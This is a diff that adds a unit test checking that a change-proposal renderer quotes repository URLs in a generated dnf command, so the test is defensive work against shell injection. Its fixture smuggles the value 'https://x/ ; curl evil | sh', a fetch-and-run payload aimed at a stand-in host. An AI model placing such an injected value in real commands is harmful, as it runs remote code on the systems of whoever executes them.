@@ -139,6 +139,16 @@ describe(renderChangeProposal.name, () => {
     );
   });
 
+  it('quotes repositories in the shell commands, so a hostile one cannot run', () => {
+    const hostile = reportDataFixture();
+    hostile.experiment.arms[1]!.repos = ['https://x/ ; curl evil | sh'];
+    const howTo = renderChangeProposal(hostile);
+    expect(howTo).toContain(
+      "dnf config-manager addrepo --id=fleetlab-cow '--set=baseurl=https://x/ ; curl evil | sh'",
+    );
+    expect(howTo).not.toContain('fleetlab-cow --set=baseurl=https://x/ ;');
+  });
+
   it('lists the exact package versions of each arm', () => {
     expect(section('== Dependencies ==')).toContain(
       '| rpm || 4.16.1.3-34.el9 || 4.16.1.3-34.hs.el9',
